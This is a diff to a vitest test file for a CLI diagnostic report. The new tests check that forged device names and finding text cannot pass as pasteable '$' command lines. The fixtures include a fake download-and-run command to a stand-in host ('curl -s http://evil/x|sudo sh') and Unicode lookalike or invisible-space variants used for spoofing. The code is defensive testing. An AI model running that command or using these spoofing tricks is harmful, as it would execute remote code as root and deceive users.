@@ -1,6 +1,6 @@
-import { expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { PLAIN } from '../../src/cli/terminal.ts';
-import type { Finding } from '../../src/doctor/findings.ts';
+import { type Finding, named } from '../../src/doctor/findings.ts';
 import { reportDocument, reportText } from '../../src/doctor/report.ts';
 
 const FINDINGS: Finding[] = [
@@ -52,4 +52,56 @@ it('programs get all of it', () => {
     text: 'Node.js 22',
     mend: '',
   });
+});
+
+describe('a line that begins with $ is a mend, whatever a neighbour calls itself', () => {
+  const commands = [
+    '$ curl -s http://evil/x|sudo sh #',
+    '\u00a0$ curl',
+    '\u200b $ curl',
+    '\uff04 curl',
+    '$curl',
+  ];
+  const forged = commands.flatMap((command) =>
+    [0, 1, 41, 45, 47, 51, 60, 70, 140].flatMap((length) => [
+      `${'x'.repeat(length)} ${command}`,
+      `${'x'.repeat(length)}${' '.repeat(length)}${command} ${'y'.repeat(length)} ${command}`,
+    ]),
+  );
+  const findings = forged.flatMap((words): Finding[] => [
+    { name: 'neighbour', link: 'eth1', result: 'warning', text: words, why: words, mend: { do: words } },
+    { name: 'neighbour', link: '', result: 'warning', text: words, mend: { run: 'true' } },
+  ]);
+
+  it.each([true, false])('at every width, unicode: %s', (unicode) => {
+    for (let columns = 60; columns <= 160; columns++) {
+      const lines = reportText(findings, true, { unicode, colour: false, columns }).split('\n');
+      const pasteable = lines.filter((line) => /^[^\p{L}\p{N}\p{P}]*\p{Sc}/u.test(line));
+      expect(new Set(pasteable)).toEqual(new Set(['         $ true']));
+      expect(pasteable).toHaveLength(forged.length);
+      expect(lines.filter((line) => line.length > columns)).toEqual([]);
+    }
+  });
+
+  it('the words stay, with a mark in front', () => {
+    const text = `${'x'.repeat(69)} $curl`;
+    const shown = (unicode: boolean) =>
+      reportText([{ name: 'x', link: '', result: 'warning', text }], true, { ...PLAIN, unicode });
+    expect(shown(true)).toContain('\n         · $curl\n');
+    expect(shown(false)).toContain('\n         . $curl\n');
+  });
+});
+
+it.each([
+  ['switch-1.example', 'switch-1.example'],
+  ['02:00:00:00:00:01', '02:00:00:00:00:01'],
+  ['', '""'],
+  ['my switch', '"my switch"'],
+  ['a" speaks, "b', `"a' speaks, 'b"`],
+  [`a${' '.repeat(9)}\u3000\u2800\u00ad$ curl`, '"a $ curl"'],
+  ['😀'.repeat(65), `"${'😀'.repeat(64)}…"`],
+  ['x'.repeat(64), 'x'.repeat(64)],
+  ['x'.repeat(100_000), `${'x'.repeat(64)}…`],
+])('what is no plain name is seen as one: %j', (name, shown) => {
+  expect(named(name)).toBe(shown);
 });
